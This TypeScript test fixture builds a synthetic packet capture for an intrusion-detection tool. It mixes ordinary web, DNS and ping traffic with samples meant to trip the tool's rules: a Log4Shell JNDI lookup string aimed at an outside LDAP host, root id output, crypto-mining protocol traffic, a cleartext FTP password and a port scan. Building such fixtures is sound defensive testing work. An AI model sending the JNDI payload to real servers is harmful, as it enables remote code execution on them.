/** The packets of the first look: ordinary traffic, and a few things that the shipped rules notice. */
import { encodePcap } from "../../../src/core/pcap/writer.ts";
import { ethernet, icmpv4, ipv4, tcp, udp } from "../../support/packets/index.ts";

const START_US = Date.UTC(2026, 0, 12, 9, 0, 0) * 1000;

class Office {
  readonly packets: { bytes: Uint8Array; timeUs: number }[] = [];
  private timeUs = START_US;

  add(bytes: Uint8Array): void {
    this.timeUs += 1500;
    this.packets.push({ bytes, timeUs: this.timeUs });
  }

  /** A whole connection: handshake, the two messages, the end. */
  conversation(
    client: string,
    server: string,
    ports: [number, number],
    request: string,
    response: string,
  ): void {
    const [sourcePort, destinationPort] = ports;
    const up = (flags: string, seq: number, ack: number, payload = ""): void =>
      this.add(
        tcp({ sourcePort, destinationPort, flags, seq, ack, payload })
          .over(ipv4({ source: client, destination: server }))
          .over(ethernet()),
      );
    const down = (flags: string, seq: number, ack: number, payload = ""): void =>
      this.add(
        tcp({ sourcePort: destinationPort, destinationPort: sourcePort, flags, seq, ack, payload })
          .over(ipv4({ source: server, destination: client }))
          .over(ethernet()),
      );
    const sent = 1001 + request.length;
    const answered = 5001 + response.length;
    up("S", 1000, 0);
    down("SA", 5000, 1001);
    up("A", 1001, 5001);
    up("PA", 1001, 5001, request);
    down("A", 5001, sent);
    down("PA", 5001, sent, response);
    up("A", sent, answered);
    up("FA", sent, answered);
    down("FA", answered, sent + 1);
    up("A", sent + 1, answered + 1);
  }
}

/** The capture's bytes. */
export function firstLook(): Uint8Array {
  const office = new Office();
  const page = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello";
  office.conversation(
    "10.0.0.21",
    "192.0.2.10",
    [40001, 80],
    "GET / HTTP/1.1\r\nHost: example.org\r\n\r\n",
    page,
  );
  office.add(
    udp({ sourcePort: 5353, destinationPort: 53, payload: "not really a query" })
      .over(ipv4({ source: "10.0.0.21", destination: "10.0.0.1" }))
      .over(ethernet()),
  );
  office.add(
    icmpv4({ type: 8, code: 0, payload: "ping" })
      .over(ipv4({ source: "10.0.0.21", destination: "10.0.0.1" }))
      .over(ethernet()),
  );
  office.conversation(
    "10.0.0.22",
    "192.0.2.66",
    [40002, 80],
    "GET /id HTTP/1.1\r\nHost: testmyids.example\r\n\r\n",
    "HTTP/1.1 200 OK\r\n\r\nuid=0(root) gid=0(root) groups=0(root)\n",
  );
  office.conversation(
    "198.51.100.7",
    "10.0.0.80",
    [51000, 8080],
    "GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\n\r\n",
    "HTTP/1.1 404 Not Found\r\n\r\n",
  );
  office.conversation(
    "10.0.0.23",
    "203.0.113.5",
    [40003, 3333],
    '{"id":1,"method":"mining.subscribe","params":[]}\n',
    '{"id":1,"result":[]}\n',
  );
  office.conversation(
    "10.0.0.24",
    "10.0.0.90",
    [40004, 21],
    "PASS hunter2\r\n",
    "230 Logged on\r\n",
  );
  for (let port = 1; port <= 40; port++) {
    office.add(
      tcp({ sourcePort: 60000, destinationPort: port, flags: "", seq: 1 })
        .over(ipv4({ source: "198.51.100.9", destination: "10.0.0.80" }))
        .over(ethernet()),
    );
  }
  return encodePcap(office.packets, 1);
}
